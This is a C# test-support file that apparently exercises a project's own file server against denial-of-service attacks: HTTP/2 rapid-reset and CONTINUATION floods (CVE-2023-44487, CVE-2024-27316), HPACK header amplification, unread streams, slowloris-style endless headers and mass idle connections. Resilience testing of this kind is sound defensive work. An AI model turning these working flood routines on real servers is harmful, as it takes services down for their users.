using System.Net;
using System.Net.Sockets;
using System.Text;
using HmacFileServer.Tests.Support;

namespace HmacFileServer.Interop.Attacks;

/// <summary>What somebody sends who knows no secret. Each returns what it holds open.</summary>
internal sealed class Attacker(IPEndPoint server)
{
    private const int Streams = 100;
    private const byte Whole = Http2Wire.EndStream | Http2Wire.EndHeaders;

    /// <summary>Asks for a large file and reads nothing of it.</summary>
    public Task<IEnumerable<IDisposable>> UnreadStreamsAsync() => Http2Async(206, number =>
        Http2Wire.Get((2 * number) + 1, AttackedServer.Large));

    /// <summary>Each head is 60 KB and comes from a few bytes: references to one entry of the dynamic table.</summary>
    public Task<IEnumerable<IDisposable>> HeaderReferencesAsync() => Http2Async(64, number =>
    {
        byte[] entry = number == 0 ? Http2Wire.Indexed("x-a", new string('a', 3900)) : [];
        byte[] references = [.. Enumerable.Repeat((byte)0xBE, 14)];
        byte[] block = [.. Http2Wire.Head("GET", AttackedServer.Large), .. entry, .. references];
        return Http2Wire.Frame(Http2Wire.Headers, Whole, (2 * number) + 1, block);
    });

    /// <summary>The head of a request that never ends: CVE-2024-27316.</summary>
    public Task<IEnumerable<IDisposable>> ContinuationsAsync() => Http2Async(64, number => number == 0
        ? Http2Wire.Frame(Http2Wire.Headers, Http2Wire.EndStream, 1, Http2Wire.Head("GET", "/"))
        : Http2Wire.Frame(Http2Wire.Continuation, 0, 1, Http2Wire.Head("GET", "/", ("x-a", new string('a', 2000)))));

    /// <summary>Requests that are taken back at once: CVE-2023-44487.</summary>
    public Task<IEnumerable<IDisposable>> ResetsAsync() => Http2Async(20, number =>
    [
        .. Enumerable.Range(0, 50).Select(i => (2 * ((50 * number) + i)) + 1).SelectMany(stream => (byte[])
        [
            .. Http2Wire.Get(stream, AttackedServer.Large),
            .. Http2Wire.Frame(Http2Wire.Reset, 0, stream, [0, 0, 0, 8]), // CANCEL
        ]),
    ]);

    public Task<IEnumerable<IDisposable>> UnreadAnswersAsync() => Http1Async(
        400,
        ["127.0.0.2", "127.0.0.3"],
        Encoding.ASCII.GetBytes($"GET {AttackedServer.Large} HTTP/1.1\r\nHost: h\r\n\r\n"));

    /// <summary>A megabyte of a head that has no end.</summary>
    public Task<IEnumerable<IDisposable>> UnfinishedHeadsAsync() => Http1Async(
        300, [null], [.. "GET / HTTP/1.1\r\nX-A: "u8, .. Enumerable.Repeat((byte)'a', 1 << 20)]);

    public Task<IEnumerable<IDisposable>> IdleConnectionsAsync() => Http1Async(1500, ["127.0.0.2"], []);

    private async Task<IEnumerable<IDisposable>> Http2Async(int connections, Func<int, byte[]> frames)
    {
        var wires = new List<IDisposable>();
        for (var i = 0; i < connections; i++)
        {
            var wire = await Http2Wire.OpenAsync(server, window: 0);
            wires.Add(wire);
            for (var number = 0; number < Streams && await wire.SendAsync(frames(number)); number++)
            {
                // The server may close it at any time.
            }
        }

        return wires;
    }

    private async Task<IEnumerable<IDisposable>> Http1Async(int connections, string?[] from, byte[] bytes)
    {
        var sockets = new List<IDisposable>();
        for (var i = 0; i < connections; i++)
        {
            var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
            sockets.Add(socket);
            using var patience = new CancellationTokenSource(TimeSpan.FromSeconds(5), TimeProvider.System);
            try
            {
                if (from[i % from.Length] is { } address)
                {
                    socket.Bind(new IPEndPoint(IPAddress.Parse(address), 0));
                }

                await socket.ConnectAsync(server, patience.Token);
                await socket.SendAsync(bytes, patience.Token);
            }
            catch (Exception e) when (e is SocketException or OperationCanceledException)
            {
                // One too many, or more than the server takes.
            }
        }

        return sockets;
    }
}
